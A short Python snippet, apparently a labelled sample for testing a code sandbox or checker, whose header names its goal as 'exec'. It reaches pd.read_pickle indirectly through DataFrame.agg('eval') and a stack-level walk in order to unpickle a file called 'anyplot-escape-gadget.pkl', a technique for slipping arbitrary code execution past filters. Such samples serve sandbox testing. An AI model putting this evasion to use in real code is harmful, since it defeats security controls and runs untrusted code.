# class: pickle_like
# technique: pd.read_pickle called in expression text on the snippet's own pd found by a level walk (DataFrame.eval reached as frame.agg bound to a name and called as run('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
run = frame.agg


def ev(expr, **names):
    return run("eval", 0, expr, local_dict=names)


def outer(expr, **names):
    for depth in range(1, 48):
        try:
            return run("eval", 0, expr, level=depth, local_dict=names)
        except Exception:
            continue
    raise RuntimeError("no frame resolves the expression")

loaded = outer("@pd.read_pickle(@p)", p="anyplot-escape-gadget.pkl")
df = pd.DataFrame({"x": [repr(loaded)]})
